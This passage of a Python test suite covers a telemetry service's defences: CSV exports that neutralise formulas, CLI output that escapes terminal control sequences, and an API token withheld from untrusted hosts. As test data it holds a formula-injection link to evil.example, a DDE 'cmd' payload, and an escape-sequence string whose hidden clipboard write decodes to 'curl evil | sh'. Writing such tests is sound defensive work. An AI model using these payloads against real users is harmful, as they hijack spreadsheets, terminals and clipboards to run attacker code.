    for name in ("worker.log", "collector.log"):
        text = (logs / name).read_text(errors="replace")
        assert text.count("connection limit") <= 10, f"{name} is flooded"  # repeated lines are rate-limited
        assert len(text) < 200_000, name


# ------------------------------------------------------------------------------------ strict identifiers


def test_a_uid_with_a_trailing_newline_is_rejected(stack: RunningStack) -> None:
    good = body_for("trailing-newline")
    bad = body_for("trailing-newline", uid_suffix="\n")
    post(stack, bad)
    post(stack, good)
    wait_stored(stack, uid_of(good))
    stack.wait_for(
        "SELECT count() AS n FROM rejections WHERE reason = 'bad_uid' "
        "AND JSONExtractString(body, 'uid') = {uid:String}".replace("{uid:String}", f"'{uid_of(good)}\\n'"),
        lambda rows: rows[0]["n"] == 1,
    )
    assert stored(stack, uid_of(bad)) == 0


def test_csv_exports_neutralise_formulas(stack: RunningStack, tmp_path: Path) -> None:
    plans = {
        '=HYPERLINK("http://evil.example/","x")': 3,
        "+cmd|' /C calc'!A0": 2,
        "-2+3": 1,
        "@SUM(A1)": 1,
        "\tTAB": 1,
        "EU_863_870": 4,
    }
    body = body_for("csv-injection", plans=plans)
    post(stack, body)
    wait_stored(stack, uid_of(body))
    today = datetime.now(UTC).date().isoformat()
    stack.wait_for(
        "SELECT count() AS n FROM daily_rollup FINAL WHERE has(mapKeys(gateways_by_frequency_plan), '-2+3')",
        lambda rows: rows[0]["n"] >= 1,
    )
    r = httpx.get(
        stack.api_url + "/api/gateways-by-frequency-plan", params={"from": today, "to": today, "format": "csv"}
    )
    assert r.status_code == 200, r.text
    rows = {row["frequency_plan_id"]: row["gateways"] for row in csv.DictReader(io.StringIO(r.text))}
    for plan in plans:
        cell = ("'" + plan) if plan[0] in "=+-@\t" else plan
        assert cell in rows, (plan, rows)
        assert rows[cell].isdigit()  # numbers stay numbers
    # the CLI's CSV too, where a negative number stays a number
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "is_telemetry",
            "sql",
            "--api",
            stack.api_url,
            "--format",
            "csv",
            "SELECT frequency_plan_id, gateways, -1 AS negative FROM gateways_by_frequency_plan_daily "
            "WHERE frequency_plan_id LIKE '=HYPER%'",
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    lines = list(csv.reader(io.StringIO(done.stdout)))
    assert lines[1][0].startswith("'=HYPERLINK") and lines[1][2] == "-1", lines


# --------------------------------------------------------------------------- a worker killed from outside


def test_a_killed_worker_is_started_again_and_nothing_is_lost(stack: RunningStack) -> None:
    """Should anything still take the worker down (the kernel's OOM killer, say), `up` starts it again instead of
    stopping the whole stack with its memory-only broker; what the collector accepted meanwhile is stored."""
    pid = worker_pid(stack)
    os.kill(pid, 9)
    bodies = [body_for(f"while-the-worker-was-down-{i}") for i in range(5)]
    for body in bodies:
        post(stack, body)  # acknowledged by Kafka; no worker is reading
    wait_until(lambda: "worker running again" in stack.log(), 120, f"the worker was not started again\n{stack.log()}")
    assert worker_pid(stack) != pid
    for body in bodies:
        wait_stored(stack, uid_of(body), timeout_s=90)
    assert stack.process.poll() is None


# --------------------------------------------------------------------------------- the command line


def run_sql_cli(
    *args: str, env: dict[str, str] | None = None, timeout_s: float = 60
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "is_telemetry", "sql", *args],
        capture_output=True,
        text=True,
        timeout=timeout_s,
        env={**os.environ, **(env or {})},
    )


ESCAPES = "SELECT concat('plan', char(27), '[2J', char(27), ']0;pwned', char(7), unhex('E280AE'), unhex('C29B')) AS v"


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_stored_escape_sequences_never_reach_the_terminal(stack: RunningStack, fmt: str) -> None:
    done = run_sql_cli("--api", stack.api_url, "--format", fmt, ESCAPES)
    assert done.returncode == 0, done.stderr
    printed = done.stdout
    assert "\x1b" not in printed and "\x07" not in printed and "\u202e" not in printed and "\u009b" not in printed
    assert "plan" in printed and ("\\x1b" in printed or "\\u001b" in printed)
    if fmt == "json":  # the same value, escaped the way JSON escapes
        assert orjson.loads(printed)[0]["v"] == "plan\x1b[2J\x1b]0;pwned\x07\u202e\u009b"


def test_stored_escape_sequences_never_reach_the_terminal_in_an_error(stack: RunningStack) -> None:
    """A sender stores OSC title and clipboard sequences in its OS; an analyst's query fails on that value: the error
    line quotes it, escaped (it was printed raw)."""
    hostile = "linux\x1b]0;PWNED\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1bP1$r\x1b\\\u009d8;;x\u009c"
    message = orjson.loads(SAMPLES["is-3.32.json"])
    message["uid"] = base64.b64encode(hashlib.sha512(b"escape-in-an-error").digest()).decode()
    message["os"]["operating_system"] = hostile
    body = orjson.dumps(message)
    post(stack, body)
    wait_stored(stack, uid_of(body))
    query = f"SELECT toUInt32(operating_system) FROM snapshots WHERE uid = '{uid_of(body)}'"
    for extra in ((), ("--verbose",)):
        done = run_sql_cli("--api", stack.api_url, *extra, query)
        assert done.returncode == 1 and "PWNED" in done.stderr, done.stderr
        assert not any(ch in done.stderr for ch in "\x1b\x07\u009c\u009d"), repr(done.stderr)


class _TokenCatcher(threading.Thread):
    """An HTTP server on `host` that records the Authorization header of each request."""

    def __init__(self, host: str) -> None:
        super().__init__(daemon=True)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind((host, 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.url = f"http://{host}:{self.sock.getsockname()[1]}"
        self.seen: list[bytes] = []
        self.stopping = False

    def run(self) -> None:
        while not self.stopping:
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                data = conn.recv(65536)
                self.seen.append(data)
                conn.sendall(b"HTTP/1.1 503 No\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")

    def stop(self) -> None:
        self.stopping = True
        self.join(5)
        self.sock.close()


def _own_address() -> str | None:
    """An address of this machine that is not loopback, if it has one."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("192.0.2.1", 9))  # no packet is sent: the kernel picks the route's source address
            address = str(s.getsockname()[0])
        except OSError:
            return None
    return None if address.startswith("127.") else address


def test_a_token_goes_only_to_the_api_the_user_named(tmp_path: Path) -> None:
    address = _own_address() or "10.255.255.1"
    catcher = _TokenCatcher(address if _own_address() else "127.0.0.1")
    catcher.start()
    data = tmp_path / "data"
    data.mkdir()
    alive = {"pid": os.getpid(), "pid_started": process_started(os.getpid())}  # a running `up`, as far as it can tell
    state = {**alive, "api_url": catcher.url if _own_address() else f"http://{address}:9"}
    (data / "stack.json").write_bytes(orjson.dumps(state))
    token = {"IS_TELEMETRY_API__TOKEN": "secret-token-for-the-test"}
    try:
        # a stack.json that names another machine's API (written by anyone who can write the data directory)
        done = run_sql_cli("--data-dir", str(data), "SELECT 1", env=token, timeout_s=30)
        assert done.returncode == 1 and "pass --api" in done.stderr, done.stderr
        assert not any(b"secret-token" in seen for seen in catcher.seen)
        # the same address named by the user: the token goes there
        if _own_address():
            done = run_sql_cli("--api", catcher.url, "SELECT 1", env=token, timeout_s=30)
            assert any(b"Bearer secret-token-for-the-test" in seen for seen in catcher.seen), catcher.seen
    finally:
        catcher.stop()
    # a loopback API found in stack.json gets it
    loopback = _TokenCatcher("127.0.0.1")
    loopback.start()
    (data / "stack.json").write_bytes(orjson.dumps({**alive, "api_url": loopback.url}))
    try:
        run_sql_cli("--data-dir", str(data), "SELECT 1", env=token, timeout_s=30)
        assert any(b"Bearer secret-token-for-the-test" in seen for seen in loopback.seen), loopback.seen
    finally:
        loopback.stop()
